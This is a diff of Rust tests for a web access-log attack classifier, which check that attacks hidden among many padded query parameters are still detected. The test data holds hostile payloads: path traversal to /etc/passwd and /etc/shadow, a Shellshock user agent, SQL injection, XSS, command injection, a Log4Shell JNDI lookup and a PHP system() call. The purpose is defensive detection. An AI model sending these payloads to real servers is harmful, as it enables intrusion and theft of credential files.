@@ -63,25 +63,102 @@ fn begins(bytes: usize) -> String {
     "'x' select ( from -- like http: > o: {{ $ \\ ".repeat(100)[..bytes].replace(' ', "+")
 }
 
+/// The categories that are found in a line, whatever else of the line is not looked at.
+fn found_in(target: &str, referer: &str, agent: &str) -> Vec<&'static str> {
+    let line = line(target.as_bytes(), referer.as_bytes(), agent.as_bytes());
+    let parsed = Format::Combined.parse(&line);
+    let attack = CLASSIFIER.classify(parsed.access().unwrap());
+    attack.map(|attack| attack.categories().iter().map(|category| category.name()).collect()).unwrap_or_default()
+}
+
+const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";
+
 #[test]
-fn begins_of_attacks_in_one_parameter_hide_no_attack_in_the_next() {
-    assert_eq!(categories(&format!("/a?q={}", begins(4_000))), [""; 0]);
-    let target = format!("/a?q={}&page=../../../../etc/passwd", begins(4_000));
-    assert!(categories(&target).contains(&"lfi"), "{:?}", categories(&target));
+fn begins_of_attacks_in_other_parameters_hide_no_attack_wherever_it_stands() {
+    let climb = "../../../../etc/passwd";
+    for (count, bytes) in [(1, 4_000), (4, 1_900), (14, 1_000), (50, 150)] {
+        let parts =
+            |from: usize| (from..from + count).map(|at| format!("&p{at}={}", begins(bytes))).collect::<String>();
+        let padded = parts(0);
+        let shell = found_in(&format!("/a?{padded}"), "-", "() { :; }; /bin/cat /etc/passwd");
+        assert!(shell.contains(&"shellshock"), "{count} of {bytes}, then a user agent: {shell:?}");
+        for target in [format!("/a?{padded}&page={climb}"), format!("/a?page={climb}{padded}")] {
+            assert!(found_in(&target, "-", BROWSER).contains(&"lfi"), "{count} of {bytes}: {target}");
+        }
+        let middle = format!("/a?{padded}&page={climb}{}", parts(count));
+        assert!(found_in(&middle, "-", BROWSER).contains(&"lfi"), "{count} of {bytes}, around it");
+        let referer = format!("http://x.example/?{padded}");
+        assert!(found_in(&format!("/a?page={climb}"), &referer, BROWSER).contains(&"lfi"), "{count} of {bytes}");
+        let referred = found_in(&format!("/a?{padded}"), &format!("http://x.example/?page={climb}"), BROWSER);
+        assert!(referred.contains(&"lfi"), "{count} of {bytes}, then a referer: {referred:?}");
+    }
+}
+
+/// So many parts that there is nothing left for the last ones: what they hide is not found, that they
+/// hide it is.
+#[test]
+fn a_line_of_very_many_begins_is_told_although_none_of_them_is_an_attack() {
+    let parts: String = (0..200).map(|at| format!("&p{at}={}", begins(32))).collect();
+    assert_eq!(found_in(&format!("/a?{parts}"), "-", BROWSER), ["protocol"]);
+    assert_eq!(found_in(&format!("/a?{parts}&page=../../../../etc/passwd"), "-", BROWSER), ["protocol"]);
+}
+
+#[test]
+fn a_line_that_is_not_looked_at_to_its_end_says_so() {
+    let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
+    let line = line(format!("/a?{parts}").as_bytes(), b"-", BROWSER.as_bytes());
+    let parsed = Format::Combined.parse(&line);
+    let access = parsed.access().unwrap();
+    let verdict = CLASSIFIER.judge(access).expect("that is a line for which there is not enough time");
+    assert!(!verdict.is_finished());
+    let told: Vec<&str> = verdict.hits.iter().map(|hit| &*hit.rule.id).collect();
+    assert_eq!(told, ["protocol-unfinished"]);
+    let explanation = CLASSIFIER.explain(access);
+    assert!(!explanation.is_finished && explanation.verdict == CLASSIFIER.classify(access));
+    assert!(explanation.matched.iter().any(|matched| matched.finding.rule == "protocol-unfinished"));
+    assert!(explanation.to_string().contains("not looked at to its end"), "{explanation}");
+}
+
+/// Eight findings are kept, and this one is not among the strongest.
+#[test]
+fn however_much_is_found_a_line_that_is_not_looked_at_to_its_end_says_so() {
+    let attacks = "&a=1'+union+select+1,2--+&b=%3Cscript%3Ealert(1)%3C/script%3E&c=;cat+/etc/passwd\
+        &d=${jndi:ldap://192.0.2.9/a}&e=../../../../etc/shadow&f=php://filter/x&g={{7*7}}&h=%3C?php+system('id')?%3E";
+    let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
+    let line = line(format!("/a?{attacks}{parts}").as_bytes(), b"-", BROWSER.as_bytes());
+    let verdict = CLASSIFIER.judge(Format::Combined.parse(&line).access().unwrap()).unwrap();
+    assert_eq!(verdict.hits.len(), FINDINGS_MAX);
+    assert!(!verdict.is_finished(), "{:?}", verdict.hits);
+}
+
+#[test]
+fn a_long_list_of_ids_is_looked_at_to_its_end() {
+    let ids = |count: u64, digits: usize| {
+        let id =
+            |at: u64| format!("{:0>32x}", u128::from(at) * 0x9e37_79b9_7f4a_7c15_f39c_c060)[32 - digits..].to_owned();
+        (1..=count).map(|at| format!("&ids[]={}", id(at))).collect::<String>()
+    };
+    // As many as Apache takes in a request line.
+    for (count, digits) in [(500, 7), (300, 16), (190, 32)] {
+        let list = ids(count, digits);
+        assert_eq!(found_in(&format!("/a?{list}"), "-", BROWSER), [""; 0], "{count} ids of {digits} digits");
+        assert!(found_in(&format!("/a?{list}&page=../../../../etc/passwd"), "-", BROWSER).contains(&"lfi"));
+    }
 }
 
 #[test]
 fn a_part_that_there_was_no_time_for_is_judged_when_it_comes_again() {
-    let classifier = Classifier::embedded();
+    let rules = rules::embedded().into_iter().filter(|rule| rule.id != "protocol-unfinished").collect();
+    let classifier = Classifier::new("test".to_owned(), rules);
+    let agent = format!("{};/bin/cat /srv/x", begins(3_000).replace('+', " "));
     let found = |target: &str| {
-        let line = line(target.as_bytes(), b"-", b"() { :; }; /bin/cat /etc/passwd");
+        let line = line(target.as_bytes(), b"-", agent.as_bytes());
         let parsed = Format::Combined.parse(&line);
-        let categories = classifier.classify(parsed.access().unwrap()).map(|attack| attack.categories());
-        categories.unwrap_or_default().contains(&Category::Shellshock)
+        classifier.classify(parsed.access().unwrap()).map(|attack| attack.categories())
     };
     let parts: String = (0..14).map(|at| format!("&p{at}={}", begins(1_000))).collect();
-    assert!(!found(&format!("/a?{parts}")), "that is a line for which there is not enough time");
-    assert!(found("/a"));
+    assert_eq!(found(&format!("/a?{parts}")), None, "that is a line for which there is not enough time");
+    assert_eq!(found("/a"), Some(vec![Category::Cmdi]));
 }
 
 #[test]
